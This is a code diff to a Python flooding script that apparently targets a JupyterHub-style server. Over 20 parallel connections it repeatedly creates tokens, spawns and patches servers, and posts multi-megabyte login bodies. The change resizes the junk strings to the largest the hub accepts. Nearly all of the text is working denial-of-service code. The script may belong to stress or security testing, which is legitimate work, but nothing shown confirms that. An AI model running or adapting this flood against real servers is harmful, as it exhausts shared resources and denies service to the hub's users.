@@ -16,8 +16,9 @@ if TYPE_CHECKING:
 
 CONNECTIONS = 20
 PROBE_SECONDS = 0.1
-NOTE = "n" * 12_000
-"""As much as fits into a body that the hub admits."""
+NOTE = "n" * 4_000
+OPTION = "o" * 16_000
+"""As much as the hub admits."""
 BODY = 4_000_000
 CHUNK = 65536
 
@@ -70,11 +71,11 @@ class Flood:
         own = {"headers": {"Authorization": f"token {self.token}"}}
         users = f"/hub/api/users/{quote(self.user, safe='')}"
         for turn in itertools.count(number, CONNECTIONS):
-            options = {"user_options": {"profile": NOTE}}
+            options = {"user_options": {"profile": OPTION}}
             yield "POST", f"{users}/tokens", {"json": {"note": NOTE}, **own}
             yield "PUT", f"{users}/servers/kept{turn}", {"json": options, **own}
             yield "POST", f"{users}/servers/asked{turn}", {"json": options, **own}
-            yield "POST", f"{users}/servers/flood{turn}-w0", {"json": {"role": "worker", "profile": NOTE}, **own}
+            yield "POST", f"{users}/servers/flood{turn}-w0", {"json": {"role": "worker", "profile": OPTION}, **own}
             yield "PATCH", f"{users}/server", {"json": options, **own}
             yield "GET", f"{users}/tokens", own
             yield "POST", "/hub/login", {"data": _large()}
